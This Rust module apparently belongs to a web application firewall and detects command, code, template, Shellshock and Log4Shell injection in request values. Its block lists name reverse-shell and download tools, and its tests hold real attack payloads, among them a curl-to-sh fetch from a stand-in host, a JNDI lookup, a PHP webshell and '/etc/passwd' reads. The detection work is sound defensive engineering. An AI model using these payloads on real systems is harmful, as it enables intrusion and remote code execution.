//! OS command injection and code injection (PHP, Node.js, Java, templates, Log4Shell).
//!
//! Shell injection needs a way into a command line — a separator (`;`, `|`, `&`, newline),
//! a substitution (`$(...)`, backticks) — followed by a command. Commands are split by how
//! much evidence they need: reconnaissance and network tools (`whoami`, `wget`) are enough
//! on their own; everyday words that are also commands (`cat`, `sleep`, `id`) need an
//! argument that looks like a shell argument (`-la`, `/etc/passwd`, `$HOME`), so that
//! `R&D; sleep well` and `| id | name |` stay prose.

use super::text::{contains_any, has, is_word_byte, match_indices};
use super::{Hits, Value};
use crate::request::Location;
use crate::rule;

/// Commands whose mere invocation after a separator is an attack.
const RECON_COMMANDS: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "hostname",
    "netstat",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "nslookup",
    "socat",
    "nmap",
    "mkfifo",
    "busybox",
    "crontab",
    "useradd",
    "tftp",
    "xterm",
    "getent",
    "lsb_release",
    "passwd",
];
/// Shells and interpreters: attacks give them a flag, a path or a redirection.
const INTERPRETERS: &[&str] = &[
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "node",
    "powershell",
    "pwsh",
    "cmd",
];
/// Everyday commands that need a shell-looking argument.
const COMMON_COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "echo",
    "ping",
    "sleep",
    "rm",
    "cp",
    "mv",
    "chmod",
    "chown",
    "touch",
    "find",
    "head",
    "tail",
    "more",
    "less",
    "grep",
    "awk",
    "sed",
    "sort",
    "kill",
    "killall",
    "ps",
    "env",
    "printenv",
    "export",
    "xargs",
    "base64",
    "xxd",
    "od",
    "tar",
    "dd",
    "nohup",
    "timeout",
    "id",
    "w",
    "who",
    "last",
    "uptime",
    "df",
    "mount",
    "systemctl",
    "service",
    "lsof",
    "pkill",
    "reboot",
    "shutdown",
    "halt",
    "su",
    "sudo",
    "ssh",
    "scp",
    "rsync",
    "openssl",
    "gcc",
    "nl",
    "tac",
    "rev",
    "strings",
    "stat",
    "readlink",
    "which",
    "whereis",
    "locate",
    "history",
    "dmesg",
    "ip",
    "route",
    "arp",
    "iptables",
    "cd",
    "pwd",
    "ln",
    "dig",
    "host",
    "file",
    "diff",
    "cut",
    "tr",
    "uniq",
    "wc",
    "date",
    "set",
];
const WINDOWS_COMMANDS: &[&str] = &[
    "dir",
    "type",
    "copy",
    "del",
    "net",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "taskkill",
    "whoami",
    "certutil",
    "bitsadmin",
    "wmic",
    "reg",
    "regsvr32",
    "mshta",
    "rundll32",
    "cscript",
    "wscript",
    "ver",
    "netsh",
    "schtasks",
    "sc",
    "findstr",
    "icacls",
    "attrib",
];
const POWERSHELL: &[&str] = &[
    "powershell -",
    "powershell.exe",
    "powershell /",
    "pwsh -",
    "invoke-expression",
    "iex(",
    "iex (",
    "invoke-webrequest",
    "new-object net.webclient",
    "net.webclient",
    "downloadstring(",
    "downloadfile(",
    "-encodedcommand",
    "start-process",
    "invoke-command",
    "-executionpolicy bypass",
    "system.diagnostics.process",
    "frombase64string(",
];
const SHELL_CODE: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "/bin/dash",
    "/bin/ksh",
    "/bin/csh",
    "/bin/busybox",
    "/usr/bin/env",
    "/dev/tcp/",
    "/dev/udp/",
    "cmd.exe",
    "nc -e",
    "ncat -e",
    "nc -c",
    "bash -i",
    "sh -i",
    "mkfifo /tmp",
    "chmod +x",
    "chmod 777",
    "/usr/bin/id",
    "/usr/bin/whoami",
    "0>&1",
];
const PHP_FUNCTIONS: &[&str] = &[
    "system",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "create_function",
    "call_user_func",
    "base64_decode",
    "str_rot13",
    "gzinflate",
    "phpinfo",
    "file_put_contents",
    "readfile",
    "file_get_contents",
    "fsockopen",
    "show_source",
    "highlight_file",
];
const PHP_SUPERGLOBALS: &[&str] = &[
    "$_get[",
    "$_post[",
    "$_request[",
    "$_server[",
    "$_cookie[",
    "$_files[",
    "$globals[",
];
const NODE_INJECTION: &[&str] = &[
    "child_process",
    "process.mainmodule",
    "process.binding(",
    "global.process",
    "execsync(",
    "spawnsync(",
    "constructor.constructor(",
];
const TEMPLATE_INJECTION: &[&str] = &[
    "__class__",
    "__mro__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__import__",
    "config.items()",
    "request.application",
    "lipsum.__",
    "cycler.__",
    "joiner.__",
    "freemarker.template.utility.execute",
    "getclass().forname",
    ".getclass()",
    "t(java.lang.runtime)",
    "#set($",
    "${class.",
    "new java.",
];
const JAVA_INJECTION: &[&str] = &[
    "java.lang.runtime",
    "getruntime().exec",
    "getruntime()",
    "java.lang.processbuilder",
    "processbuilder(",
    "javax.script.scriptenginemanager",
    "class.forname(",
    "java.lang.reflect",
    "ognl.",
    "#_memberaccess",
    "@java.lang.",
];

/// Runs the code injection rules on one value.
pub fn detect(value: &Value<'_>, hits: &mut Hits) {
    let lower = value.norm.lower.as_str();
    // Newlines separate commands: the shell view keeps them (`lower` folds them to spaces).
    let shell = deobfuscate_shell(&value.norm.decoded.to_lowercase());
    let is_header = value.location == Location::Header;
    if is_shellshock(lower) {
        hits.push(rule::SHELLSHOCK);
    }
    if is_log4shell(lower) {
        hits.push(rule::LOG4SHELL);
    }
    if is_header && value.name != "user-agent" && value.name != "referer" {
        // Other headers carry structured values (cookies, accept lists, tokens): only the
        // header-borne attacks above apply.
        return;
    }
    if separated_command(&shell) {
        hits.push(rule::UNIX_COMMAND_INJECTION);
    }
    if windows_command(lower) {
        hits.push(rule::WINDOWS_COMMAND_INJECTION);
    }
    if contains_any(lower, POWERSHELL) {
        hits.push(rule::POWERSHELL);
    }
    if substitution(&shell, true) {
        hits.push(rule::SHELL_EXPRESSION);
    }
    if substitution(&shell, false) {
        hits.push(rule::SHELL_SUBSTITUTION_ANY);
    }
    if direct_command(shell.trim_start()) {
        hits.push(rule::DIRECT_UNIX_COMMAND);
    }
    // Every pattern has a `/`, a `&`, a ` -`, `cmd` or `chmod`.
    let shell_code_possible = shell.contains(['/', '&'])
        || has(&shell, " -")
        || has(&shell, "cmd")
        || has(&shell, "chmod");
    if shell_code_possible
        && SHELL_CODE
            .iter()
            .any(|code| contains_at_word_start(&shell, code))
    {
        hits.push(rule::UNIX_SHELL_CODE);
    }
    if shell_evasion(lower) {
        hits.push(rule::SHELL_EVASION);
    }
    php(lower, hits);
    if contains_any(lower, NODE_INJECTION) {
        hits.push(rule::NODE_INJECTION);
    }
    if has(lower, "__proto__")
        || has(lower, "constructor.prototype")
        || has(lower, "constructor[prototype]")
    {
        hits.push(rule::PROTOTYPE_POLLUTION);
    }
    if template_injection(lower) {
        hits.push(rule::TEMPLATE_INJECTION);
    }
    if contains_any(lower, JAVA_INJECTION)
        || has(&value.norm.raw, "rO0AB")
        || has(lower, "aced0005")
    {
        hits.push(rule::JAVA_INJECTION);
    }
}

/// Undoes shell quoting tricks: `w'h'o'am'i`, `c\at`, `wh""oami`, `$@` and `${IFS}`.
fn deobfuscate_shell(lower: &str) -> String {
    let spaced = lower
        .replace("${ifs}", " ")
        .replace("$ifs$9", " ")
        .replace("$ifs", " ")
        .replace("$@", "")
        .replace("$()", "");
    let bytes = spaced.as_bytes();
    let mut out = String::with_capacity(spaced.len());
    for (i, c) in spaced.char_indices() {
        let inside_word =
            |b: Option<&u8>| b.is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'/');
        let quote_or_escape = matches!(c, '\'' | '"' | '\\');
        if quote_or_escape
            && i > 0
            && inside_word(bytes.get(i - 1))
            && inside_word(bytes.get(i + 1))
        {
            continue;
        }
        if c == '\\' && bytes.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        out.push(c);
    }
    // Quotes doubled inside a word leave `wh""oami` as `whoami` after a second pass.
    out.replace("''", "").replace("\"\"", "")
}

/// The command word starting at `at` (after an optional `/bin/`-style path), if any.
fn command_at(text: &str, at: usize) -> Option<(&str, usize)> {
    let rest = &text[at..];
    let mut start = at;
    for prefix in [
        "/usr/local/bin/",
        "/usr/bin/",
        "/usr/sbin/",
        "/bin/",
        "/sbin/",
        "./",
    ] {
        if rest.starts_with(prefix) {
            start += prefix.len();
            break;
        }
    }
    let bytes = text.as_bytes();
    let end = bytes[start..]
        .iter()
        .position(|&b| !(b.is_ascii_alphanumeric() || b == b'_' || b == b'-'))
        .map_or(text.len(), |p| start + p);
    (end > start).then(|| (&text[start..end], end))
}

/// What follows a command word: does it look like a shell invocation?
fn invoked(text: &str, command: &str, end: usize) -> bool {
    let after = &text[end..];
    let first = after.as_bytes().first().copied();
    let directly_separated = matches!(
        first,
        None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n' | b'<' | b'>')
    );
    let arg = after.trim_start();
    let has_space = after.len() != arg.len();
    let arg_first = arg.as_bytes().first().copied();
    // A separator after a space is not an argument: `| id | name |` is a Markdown table.
    let shell_arg = matches!(
        arg_first,
        None | Some(b'-' | b'/' | b'~' | b'.' | b'$' | b'*' | b'>' | b'<' | b'\'' | b'"')
    ) || arg_first.is_some_and(|b| b.is_ascii_digit());
    if RECON_COMMANDS.contains(&command) {
        return directly_separated || has_space;
    }
    if INTERPRETERS.contains(&command) {
        let flag_or_path = matches!(arg_first, Some(b'-' | b'/' | b'<' | b'>' | b'\'' | b'"'));
        return (has_space && flag_or_path)
            || (matches!(command, "sh" | "bash") && (first.is_none() || directly_separated));
    }
    if COMMON_COMMANDS.contains(&command) {
        return directly_separated || (has_space && shell_arg);
    }
    false
}

/// 932100: a separator, then a command: `; cat /etc/passwd`, `| whoami`, `&& id;`,
/// `%0als -la`. A newline separates only after a line without spaces (`127.0.0.1\nls`):
/// multi-line prose has lines that start with ordinary words.
fn separated_command(shell: &str) -> bool {
    let bytes = shell.as_bytes();
    bytes.iter().enumerate().any(|(i, &b)| {
        let newline = matches!(b, b'\n' | b'\r');
        if !(matches!(b, b';' | b'|' | b'&') || newline) {
            return false;
        }
        if newline {
            let line_start = shell[..i].rfind(['\n', '\r']).map_or(0, |p| p + 1);
            if shell[line_start..i].contains(' ') {
                return false;
            }
        }
        let mut j = i + 1;
        while bytes
            .get(j)
            .is_some_and(|&c| matches!(c, b'|' | b'&' | b' ' | b'\t' | b'\n' | b'\r' | b'{' | b'('))
        {
            j += 1;
        }
        command_at(shell, j).is_some_and(|(cmd, end)| invoked(shell, cmd, end))
    })
}

/// Whether `needle` occurs in `text` not preceded by a letter or digit (`nc -e` but not
/// `sync -e`).
fn contains_at_word_start(text: &str, needle: &str) -> bool {
    match_indices(text, needle)
        .any(|(at, _)| at == 0 || !text.as_bytes()[at - 1].is_ascii_alphanumeric())
}

/// 932130/932131: `$(command)` and `` `command` ``. With `strong`, only substitutions that
/// run a reconnaissance tool, a shell, or a command with shell arguments (backticks with a
/// plain word are common in Markdown).
fn substitution(shell: &str, strong: bool) -> bool {
    let dollar = match_indices(shell, "$(").any(|(at, _)| {
        command_at(shell, at + 2).is_some_and(|(cmd, end)| {
            RECON_COMMANDS.contains(&cmd) || invoked(shell, cmd, end) || INTERPRETERS.contains(&cmd)
        })
    });
    let backtick = shell.match_indices('`').any(|(at, _)| {
        command_at(shell, at + 1).is_some_and(|(cmd, end)| {
            if strong {
                RECON_COMMANDS.contains(&cmd)
                    || ((cmd == "sh" || cmd == "bash") && invoked(shell, cmd, end))
                    || (matches!(cmd, "sleep" | "cat" | "id")
                        && invoked(shell, cmd, end)
                        && shell[end..]
                            .trim_start()
                            .starts_with(|c: char| c.is_ascii_digit() || c == '/' || c == '`'))
            } else {
                invoked(shell, cmd, end)
            }
        })
    });
    dollar || backtick
}

/// 932150: the whole value is a command with shell arguments: `cat /etc/passwd`,
/// `ls -la /`, `wget http://...`.
fn direct_command(shell: &str) -> bool {
    let Some((cmd, end)) = command_at(shell, 0) else {
        return false;
    };
    let arg = shell[end..].trim_start();
    let strong_arg = matches!(
        arg.as_bytes().first(),
        Some(b'-' | b'/' | b'~' | b'$' | b'>' | b'<' | b'|')
    );
    let has_space = end < shell.len() && shell.as_bytes()[end] == b' ';
    if RECON_COMMANDS.contains(&cmd) {
        return has_space && (strong_arg || arg.starts_with("http"));
    }
    (COMMON_COMMANDS.contains(&cmd) || INTERPRETERS.contains(&cmd)) && has_space && strong_arg
}

/// 932110: Windows commands after a separator, or `cmd /c`.
fn windows_command(lower: &str) -> bool {
    if has(lower, "cmd /c") || has(lower, "cmd.exe /c") || has(lower, "cmd /k") {
        return true;
    }
    let bytes = lower.as_bytes();
    bytes.iter().enumerate().any(|(i, &b)| {
        if !matches!(b, b'&' | b'|' | b';' | b'\n') {
            return false;
        }
        let rest = lower[i + 1..].trim_start_matches(['&', '|', ' ']);
        WINDOWS_COMMANDS.iter().any(|cmd| {
            rest.strip_prefix(cmd).is_some_and(|after| {
                let arg = after.trim_start();
                let spaced = after.len() != arg.len();
                after.is_empty()
                    || (spaced
                        && (arg.starts_with("c:")
                            || arg.starts_with('%')
                            || arg.starts_with('/')
                            || arg.starts_with('\\')
                            || arg.starts_with("user")
                            || arg.starts_with("localgroup")
                            || arg.starts_with("query")
                            || arg.starts_with("-urlcache")
                            || arg.starts_with("/transfer")))
            })
        })
    })
}

/// 932200: `$IFS`, brace expansion of a command, globbed binary paths, `$'\x..'` strings.
fn shell_evasion(lower: &str) -> bool {
    if has(lower, "${ifs")
        || has(lower, "$ifs")
        || has(lower, "$'\\x")
        || has(lower, "${path:")
        || has(lower, "${home:")
    {
        return true;
    }
    let brace = lower.match_indices('{').any(|(at, _)| {
        let rest = &lower[at + 1..];
        let word_end = rest
            .find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(rest.len());
        let word = &rest[..word_end];
        rest[word_end..].starts_with(',')
            && (COMMON_COMMANDS.contains(&word)
                || RECON_COMMANDS.contains(&word)
                || INTERPRETERS.contains(&word))
    });
    let glob = lower.split([' ', ';', '|', '&', '=']).any(|token| {
        token.starts_with('/')
            && token.matches('/').count() >= 2
            && token.matches(['?', '*']).count() >= 2
            && token
                .bytes()
                .all(|b| b.is_ascii_lowercase() || matches!(b, b'/' | b'?' | b'*' | b'.'))
    });
    brace || glob
}

/// 932170: a function definition at the start of the value (`() { :; };`), which bash
/// before 4.3 executed from environment variables; `load() {` in code is not one.
fn is_shellshock(lower: &str) -> bool {
    let compact: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    compact.starts_with("(){")
}

/// 944150: JNDI lookups and the nested lookups that hide them (`${${lower:j}ndi:`).
fn is_log4shell(lower: &str) -> bool {
    let compact: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    has(&compact, "${jndi:")
        || has(&compact, "${${")
        || has(&compact, "${::-")
        || (has(&compact, "${") && has(&compact, "jndi"))
        || has(&compact, "${lower:")
        || has(&compact, "${upper:")
        || has(&compact, "${env:")
        || has(&compact, "${sys:")
}

/// 933100/933150/933160: PHP tags and high-risk PHP calls.
fn php(lower: &str, hits: &mut Hits) {
    if has(lower, "<?php") || has(lower, "<?=") || lower.starts_with("<? ") {
        hits.push(rule::PHP_OPEN_TAG);
    }
    let calls_possible = lower.contains('(');
    let called = |name: &str| {
        calls_possible
            && match_indices(lower, name).any(|(at, _)| {
                let before_ok = at == 0 || !is_word_byte(lower.as_bytes()[at - 1]);
                // `system(` exactly: "the system (v2)" is prose.
                before_ok && lower[at + name.len()..].starts_with('(')
            })
    };
    if PHP_FUNCTIONS.iter().any(|f| called(f)) || contains_any(lower, PHP_SUPERGLOBALS) {
        hits.push(rule::PHP_FUNCTION);
    }
    if [
        "eval",
        "exec",
        "execfile",
        "compile",
        "include",
        "require_once",
        "include_once",
    ]
    .iter()
    .any(|f| called(f))
    {
        hits.push(rule::CODE_EVAL);
    }
}

/// 934140: server-side template expressions that compute or reach into the runtime.
fn template_injection(lower: &str) -> bool {
    if contains_any(lower, TEMPLATE_INJECTION) {
        return true;
    }
    if !lower.contains('*') {
        return false;
    }
    let arithmetic = |open: &str, close: &str| {
        match_indices(lower, open).any(|(at, _)| {
            let inner = &lower[at + open.len()..];
            let inner = inner.split(close).next().unwrap_or(inner);
            let compact: String = inner.chars().filter(|c| !c.is_whitespace()).collect();
            let parts: Vec<&str> = compact.split('*').collect();
            parts.len() == 2
                && parts
                    .iter()
                    .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
        })
    };
    arithmetic("{{", "}}")
        || arithmetic("${", "}")
        || arithmetic("#{", "}")
        || arithmetic("<%=", "%>")
        || arithmetic("*{", "}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::{Encoding, Normalized};

    fn rules(input: &str) -> Hits {
        let norm = Normalized::new(input.as_bytes(), Encoding::Form);
        let mut hits = Hits::new();
        detect(
            &Value {
                location: Location::Arg,
                name: "q",
                norm: &norm,
            },
            &mut hits,
        );
        hits
    }

    fn flagged(input: &str) -> bool {
        rules(input)
            .iter()
            .any(|id| crate::rule::rule(*id).is_some_and(|r| r.paranoia == 1))
    }

    #[test]
    fn injected_commands_are_found() {
        for attack in [
            "; cat /etc/passwd",
            "| whoami",
            "127.0.0.1 && id;",
            "%0Als%20-la",
            "$(curl http://x.example/s.sh|sh)",
            "`whoami`",
            "x;w'h'o'am'i",
            "a|c\\at${IFS}/etc/passwd",
            "() { :; }; /bin/bash -c 'id'",
            "${jndi:ldap://x.example/a}",
            "& dir c:\\",
            "<?php system($_GET['c']); ?>",
            "{{7*7}}",
            "{cat,/etc/passwd}",
            "/???/c?t /???/p??s??",
            "powershell -enc SQBFAFgA",
        ] {
            assert!(flagged(attack), "{attack}: {:?}", rules(attack));
        }
    }

    #[test]
    fn prose_and_markdown_stay_clean_at_paranoia_one() {
        for benign in [
            "R&D; sleep well",
            "| id | name | email |",
            "Fish & chips; cat food",
            "Languages: Go | Python | PHP",
            "use `npm install` to set up",
            "$('#menu').hide()",
            "Tom & Jerry",
            "/items?sort=asc&id=5&cat=books",
            "echo chamber",
        ] {
            assert!(!flagged(benign), "{benign}: {:?}", rules(benign));
        }
    }
}
